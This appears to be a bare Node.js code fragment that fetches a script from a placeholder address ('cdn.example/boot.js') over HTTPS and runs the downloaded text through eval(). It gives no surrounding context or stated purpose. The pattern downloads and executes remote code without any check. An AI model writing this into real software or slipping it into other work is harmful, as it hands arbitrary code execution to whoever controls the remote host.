const https = require('https');
https.get('https://cdn.example/boot.js', (res) => {
  let src = '';
  res.on('data', (c) => (src += c));
  res.on('end', () => eval(src));
});
